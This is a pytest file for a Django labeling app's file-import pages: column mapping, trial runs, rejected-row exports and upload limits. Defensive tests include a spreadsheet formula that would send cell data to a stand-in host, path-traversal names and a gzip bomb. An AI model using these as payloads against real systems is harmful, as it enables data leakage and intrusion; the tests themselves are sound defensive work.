"""Uploading through the pages: look at a file, name its columns, try it, import it, follow it, mend what is left."""

import csv
import gzip
import html
import io
import json
import os
import time
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from django.contrib.auth.models import User
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from pyarrow import parquet

from labeling import jobs
from labeling.models import ImportBatch, Label, Pair, Project, RejectedLine
from labeling.services import imports, uploads
from tests import factories
from tests.conftest import Sent
from tests.web.conftest import HTMX

pytestmark = pytest.mark.usefixtures("home")
URL = "/p/stories/import/"
PAIR = {"prompt": "Add 3 and 4.", "response_a": "7", "response_b": "8"}
QUIZ = "question;one;two;best;who\nWhy?;Because.;Why not?;left;ada\nHow?;So.;;right;ben\nWho?;Me.;You.;sideways;ada\n"
COLUMNS = {
    "layout": "columns",
    "prompt": "question",
    "response_a": "one",
    "response_b": "two",
    "winner": "best",
    "annotator": "who",
}


def upload(client: Client, content: str | bytes, name: str = "quiz.csv", **more: str) -> Any:
    file = io.BytesIO(content.encode() if isinstance(content, str) else content)
    file.name = name
    return client.post(URL, {"file": file, **more})


def looked_at(client: Client, content: str | bytes = QUIZ, name: str = "quiz.csv") -> str:
    response = upload(client, content, name, do="look")
    assert response.status_code == 302
    return str(response["Location"])


def text(response: Any) -> str:
    return str(response.content.decode())


def test_a_file_in_no_known_layout_leads_to_its_columns(as_alice: Client, project: Project) -> None:
    response = upload(as_alice, QUIZ)
    assert response["Location"].startswith(URL)
    page = text(as_alice.get(response["Location"]))
    assert "not known" in page
    assert "Nothing is imported yet" in page
    assert "Because." in page
    assert 'value="question" selected' in page.replace("'", '"')  # what holds the prompt is guessed
    assert not ImportBatch.objects.exists()


def test_a_known_layout_is_shown_with_its_pairs(as_alice: Client, project: Project) -> None:
    rows = [{"prompt": "Why?", "chosen": "So <b>it</b> is.", "rejected": "No."}, {"prompt": "x", "chosen": "y"}]
    url = looked_at(as_alice, json.dumps(rows), "pairs.json")
    page = text(as_alice.get(url))
    assert "JSON list" in page
    assert "As detected: trl" in page
    assert "So &lt;b&gt;it&lt;/b&gt; is." in page
    assert "rejected: missing" in page
    assert "file: " in page


def test_columns_are_named_tried_and_imported(as_alice: Client, alice: User, project: Project, home: Path) -> None:
    url = looked_at(as_alice)
    shown = text(as_alice.post(url, {**COLUMNS, "do": "look"}))
    assert "ada: A" in shown
    assert "response_b: missing (column &#x27;two&#x27;)" in shown
    tried = text(as_alice.post(url, {**COLUMNS, "do": "try"}))
    assert "If you import it so" in tried
    assert "Why rows would be rejected" in tried
    assert not Pair.objects.exists()
    assert not ImportBatch.objects.exists()
    done = as_alice.post(url, {**COLUMNS, "do": "import"})
    batch = ImportBatch.objects.get()
    assert done["Location"] == f"/imports/{batch.pk}/"
    assert (batch.imported, batch.labels, batch.rejected, batch.requested_by) == (1, 1, 2, alice)
    assert (batch.format, batch.mapping["winner"]) == ("mapped, csv", "best")
    assert Label.objects.get().external_annotator == "ada"
    assert list((home / "imports").iterdir()) == []
    assert as_alice.get(url)["Location"] == URL  # the upload is used up


def test_a_mapping_that_cannot_work_marks_its_columns(as_alice: Client, project: Project) -> None:
    url = looked_at(as_alice)
    response = as_alice.post(url, {"layout": "columns", "prompt": "question", "response_a": "one", "do": "import"})
    assert response.status_code == 422
    assert "The other response needs a column too." in text(response)
    response = as_alice.post(url, {"layout": "columns", "prompt": "no such column", "do": "import"})
    assert response.status_code == 422
    assert not ImportBatch.objects.exists()


def test_a_trial_of_a_long_file_stops_in_time_and_says_so(
    as_alice: Client, project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("labeling.views.imports.DRY_SECONDS", 0.0)
    monkeypatch.setattr("labeling.services.checking.ROWS", 1)
    page = text(as_alice.post(looked_at(as_alice), {**COLUMNS, "do": "try"}))
    assert "This is the beginning of the file" in page


def test_an_upload_belongs_to_its_project(as_alice: Client, alice: User, project: Project) -> None:
    url = looked_at(as_alice)
    other = factories.ProjectFactory.create(slug="other")
    other.members.create(user=alice, role="manager")
    elsewhere = url.replace("stories", "other")
    assert as_alice.get(elsewhere)["Location"] == "/p/other/import/"
    assert as_alice.get(url).status_code == 200


@pytest.mark.parametrize(
    ("content", "name", "says"),
    [
        ("prompt,a\n".encode("utf-16"), "a.csv", "UTF-16 text. Save it as UTF-8"),
        (b"", "a.jsonl", "The file has no lines."),
        (b"a,a\n1,2\n", "a.csv", "Two columns are called"),
        (b"[{}, ", "a.json", "The JSON list breaks off after entry 1."),
    ],
)
def test_what_cannot_be_read_is_said_on_the_page(
    as_alice: Client, project: Project, home: Path, content: bytes, name: str, says: str
) -> None:
    response = upload(as_alice, content, name)
    assert response.status_code == 422
    assert says in text(response)
    assert list((home / "imports").iterdir()) == []


def test_a_large_upload_is_followed_and_cancelled(
    as_alice: Client,
    project: Project,
    sent: Sent,
    monkeypatch: pytest.MonkeyPatch,
    django_capture_on_commit_callbacks: Any,
) -> None:
    monkeypatch.setattr(imports, "AT_ONCE", 10)
    with django_capture_on_commit_callbacks(execute=True):
        response = upload(as_alice, json.dumps(PAIR), "a.jsonl")
    batch = ImportBatch.objects.get()
    assert sent == [(jobs.IMPORT, {"batch_id": batch.pk})]
    page = text(as_alice.get(response["Location"]))
    assert 'hx-trigger="every 2s"' in page
    assert "Cancel the import" in page
    part = text(as_alice.get(response["Location"], headers=HTMX))
    assert part.strip().startswith('<div id="batch"')
    as_alice.post(f"/imports/{batch.pk}/cancel/")
    page = text(as_alice.get(response["Location"]))
    assert "The import was cancelled" in page
    assert "data-poll" not in page
    again = as_alice.post(f"/imports/{batch.pk}/cancel/", follow=True)
    assert "This import has ended already." in text(again)


def test_a_failed_import_says_why(as_alice: Client, project: Project) -> None:
    batch = ImportBatch.objects.create(project=project, filename="a", sha256="1", state="failed", error="It is torn.")
    page = text(as_alice.get(f"/imports/{batch.pk}/"))
    assert "<strong>Nothing was imported.</strong> It is torn." in page
    assert "Every row was taken" not in page


def rejected(client: Client, content: str | bytes, name: str) -> tuple[Any, str]:
    assert upload(client, content, name).status_code == 302
    response: Any = client.get(f"/imports/{ImportBatch.objects.latest('pk').pk}/rejected/")
    return response, b"".join(response.streaming_content).decode()


def test_rejected_rows_of_a_csv_are_a_csv_with_their_reason(as_alice: Client, project: Project) -> None:
    rows = 'prompt,response_a,response_b,note\n"a,b",x,,"two\nlines"\n' + "Why?,x,y,\nWhy?,=x\n"
    response, content = rejected(as_alice, rows, "my pairs.csv")
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == 'attachment; filename="my_pairs-rejected.csv"'
    first, second = csv.DictReader(io.StringIO(content))
    assert (first["prompt"], first["note"]) == ("a,b", "two\nlines")
    assert first["rejected_because"] == "response_b: missing"
    assert second["rejected_because"] == "2 cells, but the header has 4 columns"
    text_file = io.StringIO()
    writer = csv.DictWriter(text_file, list(first))
    writer.writeheader()
    writer.writerows([{**first, "response_b": "z"}, {**second, "response_b": "z"}])
    mended = imports.import_file(project, file=io.BytesIO(text_file.getvalue().encode()), filename="mended.csv")
    assert (mended.imported, mended.rejected) == (2, 0)


def test_rejected_rows_of_json_are_json(as_alice: Client, project: Project) -> None:
    response, content = rejected(as_alice, json.dumps(PAIR) + '\n{nonsense\n{"prompt": "ü"}\n', "a.jsonl")
    assert response["Content-Type"] == "application/x-ndjson"
    torn, lacking = map(json.loads, content.splitlines())
    assert torn["row"] == "{nonsense"
    assert lacking["prompt"] == "ü"
    assert lacking["rejected_because"].startswith("response_a: missing")
    response, content = rejected(as_alice, json.dumps([{"response_a": "x"}, {"response_a": "y"}]), "b.json")
    assert [row["response_a"] for row in json.loads(content)] == ["x", "y"]


def test_the_page_of_an_import_groups_the_reasons(as_alice: Client, project: Project) -> None:
    batch = ImportBatch.objects.create(
        project=project, filename="a.jsonl", sha256="1", rejected=60, format="trl, jsonl"
    )
    lines = [
        RejectedLine(batch=batch, number=n, field="prompt", reason="prompt: empty" if n % 3 else "prompt: missing")
        for n in range(1, 61)
    ]
    RejectedLine.objects.bulk_create(lines)
    with CaptureQueriesContext(connection) as queries:
        page = text(as_alice.get(f"/imports/{batch.pk}/"))
    assert page.index("<td>40</td><td>prompt</td><td>prompt: empty</td><td>1</td>") < page.index("<td>20</td>")
    assert "Page 1 of 2" in page
    assert len(queries) <= 9


def test_data_sets_by_name_are_offered_only_where_the_installation_allows_them(
    as_alice: Client, project: Project, home: Path, settings: Any, sent: Sent
) -> None:
    assert "A data set by name" not in text(as_alice.get(URL))
    refused = as_alice.post(f"{URL}named/", {"folder": "talk"})
    assert refused.status_code == 422
    folder = home / "sets" / "talk"
    folder.mkdir(parents=True)
    (folder / "a.jsonl").write_text(json.dumps(PAIR))
    settings.ENV = settings.ENV.model_copy(update={"datasets_folder": str(home / "sets")})
    assert "Folder on the server" in text(as_alice.get(URL))
    response = as_alice.post(f"{URL}named/", {"folder": "talk"})
    assert response["Location"] == f"/imports/{ImportBatch.objects.get().pk}/"
    wrong = as_alice.post(f"{URL}named/", {"folder": "talk", "hub": "a/b"})
    assert "Name a folder or a data set on the hub." in text(wrong)


@pytest.mark.parametrize("name", ["..", ".", "../x", "./x", "x/..", "/etc", "-x/y", "a/b/c", "a//b", "text", "json"])
def test_a_path_is_no_name_on_the_hub(as_alice: Client, project: Project, settings: Any, name: str) -> None:
    """Nor is one word, by which the library knows its own readers of local files."""
    settings.ENV = settings.ENV.model_copy(update={"hub_datasets": True})
    response = as_alice.post(f"{URL}named/", {"hub": name})
    assert response.status_code == 422
    assert "owner/name" in text(response)
    assert not ImportBatch.objects.exists()


def test_a_folder_beside_the_server_is_no_name_on_the_hub(
    as_alice: Client, project: Project, home: Path, settings: Any, sent: Sent, monkeypatch: pytest.MonkeyPatch
) -> None:
    settings.ENV = settings.ENV.model_copy(update={"hub_datasets": True})
    (home / "labeling" / "services").mkdir(parents=True)
    monkeypatch.chdir(home)
    response = as_alice.post(f"{URL}named/", {"hub": "labeling/services"})
    assert response.status_code == 422
    assert "a folder here" in text(response)
    taken = as_alice.post(f"{URL}named/", {"hub": "labeling/other-1.5"})
    assert taken["Location"] == f"/imports/{ImportBatch.objects.get().pk}/"


def test_odd_values_and_reasons_do_not_keep_the_first_rows_from_being_shown(as_alice: Client, project: Project) -> None:
    rows = [{**PAIR, "who": ["x"], "m": {"n": 1}, "best": ["left"]}, {**PAIR, "best": 10**400}, {**PAIR, "best": -1}]
    twice = b'{"\\ud800": 1, "\\ud800": 2}\n'
    url = looked_at(as_alice, b"".join(json.dumps(row).encode() + b"\n" for row in rows) + twice, "a.jsonl")
    plan = {"layout": "columns", "prompt": "prompt", "response_a": "response_a", "response_b": "response_b"}
    shown = as_alice.post(url, {**plan, "winner": "best", "model_a": "who", "model_b": "m", "do": "look"})
    assert shown.status_code == 200
    assert "winner: is not a verdict" in html.unescape(text(shown))
    assert "winner: -1 is not 0 (tie), 1 (A) or 2 (B)" in html.unescape(text(shown))
    assert "?: given twice" in text(shown)


def test_rejected_cells_are_not_computed_by_a_spreadsheet_and_come_back_as_they_were(
    as_alice: Client, project: Project
) -> None:
    attack = '=HYPERLINK("http://x/?"&A1)'
    rows = io.StringIO()
    table = csv.writer(rows)
    table.writerow(["prompt", "response_a", "response_b", "=note", "model_a"])
    table.writerow([attack, "x", "x", "-1", "'=kept"])
    _response, content = rejected(as_alice, rows.getvalue(), "a.csv")
    header, cells = csv.reader(io.StringIO(content))
    assert header == ["prompt", "response_a", "response_b", "'=note", "model_a", "rejected_because"]
    assert cells[0] == "'" + attack
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in header + cells)
    mended = io.StringIO()
    csv.writer(mended).writerows([header, [*cells[:2], "y", *cells[3:]]])
    batch = imports.import_file(project, file=io.BytesIO(mended.getvalue().encode()), filename="mended.csv")
    assert (batch.imported, batch.rejected) == (1, 0)
    pair = Pair.objects.get()
    assert (pair.prompt[-1]["content"], pair.model_a) == (attack, "'=kept")


def test_every_file_so_far_is_listed_page_by_page(as_alice: Client, project: Project) -> None:
    for number in range(51):
        ImportBatch.objects.create(project=project, filename=f"file {number}.", sha256=str(number))
    newest, oldest = text(as_alice.get(URL)), text(as_alice.get(f"{URL}?page=2"))
    assert [f"file {number}." in newest for number in (50, 1, 0)] == [True, True, False]
    assert [f"file {number}." in oldest for number in (50, 1, 0)] == [False, False, True]
    assert "Page 1 of 2" in newest
    assert 'href="?page=2"' in newest


def many(count: int) -> bytes:
    return b"".join(json.dumps({**PAIR, "prompt": f"Add {n}."}).encode() + b"\n" for n in range(count))


def test_a_small_file_that_unpacks_to_much_is_left_to_a_worker(
    as_alice: Client, project: Project, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(imports, "AT_ONCE", 20_000)
    upload(as_alice, gzip.compress(many(10)), "small.jsonl.gz")
    assert ImportBatch.objects.latest("pk").state == "done"
    upload(as_alice, gzip.compress(many(5_000)), "bomb.jsonl.gz")
    assert ImportBatch.objects.latest("pk").state == "waiting"


def test_of_what_unpacks_to_much_a_page_shows_no_more_than_it_may_unpack(
    as_alice: Client, project: Project, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("labeling.services.previews.LOOKED_INTO", 100_000)
    monkeypatch.setattr(imports, "LOOKED_INTO", 100_000)
    monkeypatch.setattr("labeling.services.checking.ROWS", 100)
    table = io.BytesIO()
    parquet.write_table(pa.Table.from_pylist([{**PAIR, "prompt": "w" * 300_000}]), table)
    url = looked_at(as_alice, gzip.compress(table.getvalue()), "wide.parquet.gz")
    assert "too large to be looked into" in text(as_alice.get(url))
    assert "too large" not in text(as_alice.get(looked_at(as_alice, b"prompt,response_a,response_b\n", "none.csv")))
    refused = as_alice.post(url, {"layout": "", "do": "try"}, follow=True)
    assert "Unpacked, the file holds more than" in text(refused)
    url = looked_at(as_alice, gzip.compress(many(5_000)), "many.jsonl.gz")
    assert "Add 1." in text(as_alice.get(url))
    assert "This is the beginning of the file" in text(as_alice.post(url, {"layout": "", "do": "try"}))


def test_an_uploaded_file_lies_in_the_data_folder_from_its_first_byte_on(
    as_alice: Client, project: Project, settings: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = settings.FILE_UPLOAD_TEMP_DIR
    assert folder == settings.ENV.home.resolve() / uploads.FOLDER
    assert folder.is_dir()
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 0
    places, receive = [], uploads.receive

    def seen(project: Project, *, stream: Any, filename: str) -> uploads.Draft:
        places.append(Path(stream.name))
        return receive(project, stream=stream, filename=filename)

    monkeypatch.setattr(uploads, "receive", seen)
    upload(as_alice, many(3), "three.jsonl")
    assert [path.parent for path in places] == [folder]
    assert not places[0].exists()
    assert Pair.objects.count() == 3


def test_what_a_killed_upload_left_is_forgotten_and_one_under_way_is_kept(project: Project, home: Path) -> None:
    (home / uploads.FOLDER).mkdir()
    under_way, left = (home / uploads.FOLDER / f"tmp{name}.upload.jsonl" for name in ("new", "old"))
    for path in (under_way, left):
        path.write_bytes(b"{")
    os.utime(left, (time.time(), time.time() - uploads.FORGOTTEN_AFTER - 1))
    assert uploads.forget_old() == 1
    assert [path.name for path in (home / uploads.FOLDER).iterdir()] == [under_way.name]
